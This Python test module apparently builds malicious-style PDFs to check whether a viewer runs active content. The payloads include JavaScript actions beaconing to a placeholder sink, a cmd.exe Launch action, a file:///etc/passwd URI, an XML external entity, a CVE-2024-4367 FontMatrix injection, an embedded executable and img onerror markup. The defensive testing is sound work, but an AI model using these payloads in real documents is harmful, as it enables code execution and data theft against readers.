"""PDFs that act where a viewer lets them: scripts, programs, addresses, forms, files within."""

from __future__ import annotations

from collections.abc import Sequence

from tests.client_js.documents.corpus import Case, Make
from tests.client_js.documents.pdf_parts import annotation, drawing, one_page, stream

SCRIPT = (
    "self.hit = 1; app.alert\\(1\\); app.launchURL\\('SINK/js'\\); "
    "this.submitForm\\('SINK/js'\\); fetch\\('SINK/js'\\)"
)
JS = f"<< /S /JavaScript /JS ({SCRIPT}) >>"
# CVE-2024-4367: text where pdf.js once compiled numbers.
MATRIX = "[0.001 0 0 0.001 0 (0\\); self.hit = 1; //)]"
XFA = (
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    '<script contentType="application/x-javascript">xfa.host.gotoURL("SINK/xfa")</script></event>'
    '<draw><value><exData contentType="text/html"><body><img src="SINK/xfa"/></body></exData>'
    "</value></draw></subform></template></xdp:xdp>"
)
XML = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "SINK/xml">]><a>&b;</a>'
# What looks like a web page at the beginning of a file is not even opened: it begins later.
LATER = f"/Padding ({'x' * 1_100})"
FIELDS = "/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>"
PICTURE = "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8"


def acting(catalogue: str = "", page: str = "", objects: Sequence[str] = (), **more: str) -> Make:
    def make(sink: str) -> bytes:
        def to(text: str) -> str:
            return text.replace("SINK", sink)

        filters = to(more.get("filters", ""))
        return one_page(to(catalogue), to(page), [to(each) for each in objects], filters=filters)

    return make


def written_in(text: str, entries: str = "") -> str:
    return stream(text.encode(), entries).decode()


def opened(action: str) -> Make:
    return acting(f"/OpenAction << {action} >>")


def pressed(action: str) -> Make:
    return acting(page=annotation(f"/Subtype /Link /A << {action} >>"))


def scripted_field(entries: str) -> Make:
    """A text field over all of the page."""
    text = f"/Subtype /Widget /FT /Tx /T (a) /V (b) /DA (/F1 12 Tf) {entries}"
    return acting(FIELDS, "/Annots [6 0 R]", [f"<< /Type /Annot /Rect [0 0 612 792] {text} >>"])


ACTS: dict[str, Make] = {
    "script-when-opened": acting(f"/OpenAction {JS}"),
    "scripts-of-the-document": acting(f"/AA << /WC {JS} /WS {JS} /DS {JS} /WP {JS} /DP {JS} >>"),
    "scripts-of-a-page": acting(page=f"/AA << /O {JS} /C {JS} >>"),
    "scripts-by-name": acting(f"/Names << /JavaScript << /Names [(a) {JS}] >> >>"),
    "script-in-a-stream": acting(
        "/OpenAction << /S /JavaScript /JS 6 0 R >>", objects=[written_in("self.hit = 1")]
    ),
    "scripts-of-a-field": scripted_field(
        f"/A {JS} /AA << /K {JS} /F {JS} /V {JS} /C {JS} /E {JS} /X {JS} /Fo {JS} >>"
    ),
    "script-after-an-action": opened(f"/S /Named /N /NextPage /Next {JS}"),
    "launch": opened("/S /Launch /F (cmd.exe) /Win << /F (cmd) /P (/c calc) >>"),
    "launch-when-pressed": pressed("/S /Launch /F (SINK/launch) /NewWindow true"),
    "address-when-opened": opened("/S /URI /URI (SINK/uri)"),
    "address-when-pressed": pressed("/S /URI /URI (SINK/uri)"),
    "script-as-an-address": pressed("/S /URI /URI (javascript:self.hit=1)"),
    "file-as-an-address": pressed("/S /URI /URI (file:///etc/passwd)"),
    "submitted": opened("/S /SubmitForm /F << /FS /URL /F (SINK/form) >> /Flags 4"),
    "submitted-by-a-field": scripted_field("/A << /S /SubmitForm /F (SINK/form) /Flags 4 >>"),
    "imported-data": opened("/S /ImportData /F (SINK/data)"),
    "another-file": opened("/S /GoToR /F (SINK/remote.pdf) /D [0 /Fit] /NewWindow true"),
    "a-share-on-the-network": opened("/S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\a) /D [0 /Fit]"),
    "embedded-target": opened("/S /GoToE /T << /R /C /N (a) >> /D [0 /Fit]"),
    "hidden-by-an-action": opened("/S /Hide /T (a) /H false"),
    "thread": opened("/S /Thread /F (SINK/thread) /D 0"),
    "film": acting(
        page=annotation(
            "/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD "
            "/CT (video/mp4) /D << /FS /URL /F (SINK/film) >> >> >> >>"
        )
    ),
    "sound": opened("/S /Sound /Sound << /F << /FS /URL /F (SINK/sound) >> >>"),
    "rich-media": acting(
        page=annotation(
            "/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >>"
        ),
        objects=["<< /Type /Filespec /F (a.swf) /EF << /F 7 0 R >> >>", written_in("FWS")],
    ),
    "embedded-program": acting(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> /OpenAction << /S /JavaScript "
        "/JS (this.exportDataObject\\({cName: 'a.exe', nLaunch: 2}\\)) >>",
        objects=["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", written_in("MZ" * 99)],
    ),
    "file-on-the-page": acting(
        page=annotation("/Subtype /FileAttachment /FS 6 0 R"),
        objects=["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", written_in("MZ" * 99)],
    ),
    "portfolio": acting("/Collection << /View /D /D (a.exe) >>"),
    "form-of-xml": acting(
        f"{LATER} /AcroForm << /XFA 6 0 R /Fields [] >>", objects=[written_in(XFA)]
    ),
    "xml-with-an-entity": acting(
        f"{LATER} /Metadata 6 0 R", objects=[written_in(XML, "/Type /Metadata /Subtype /XML")]
    ),
    "picture-from-elsewhere": acting(
        page=drawing("/XObject << /P 6 0 R >>"),
        objects=[
            written_in("", f"{PICTURE} /ColorSpace /DeviceGray /F << /FS /URL /F (SINK/p) >>")
        ],
    ),
    "content-from-elsewhere": acting(filters="/F << /FS /URL /F (SINK/content) >>"),
    "page-from-elsewhere": acting(
        page=drawing("/XObject << /P 6 0 R >>"),
        objects=[
            written_in(
                "",
                "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (SINK/ref) /Page 0 >> "
                "/OPI << /2.0 << /F (SINK/opi) >> >>",
            )
        ],
    ),
    "font-from-elsewhere": acting(
        page="/Resources << /Font << /F1 << /Type /Font /Subtype /TrueType /BaseFont /A "
        "/FontDescriptor << /FontName /A /FontFile2 << /F (SINK/font) >> >> >> >> >>"
    ),
    "numbers-that-are-code": acting(
        page="/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
        f"/FontMatrix {MATRIX} >> >> >>"
    ),
    "outline-of-markup": acting(
        "/Outlines << /First 6 0 R /Last 6 0 R >>",
        objects=[
            "<< /Title (<img src=SINK/o onerror=self.hit=1>) /A << /S /URI /URI (SINK/o) >> >>"
        ],
    ),
    "note-of-markup": acting(
        LATER,
        page=annotation(
            "/Subtype /FreeText /DA (/F1 12 Tf) /Contents (<img src=SINK/n onerror=self.hit=1>) "
            '/RC (<body xmlns="http://www.w3.org/1999/xhtml"><img src="SINK/n"/></body>)'
        ),
    ),
}

CASES = [Case(f"pdf-{name}", make) for name, make in ACTS.items()]
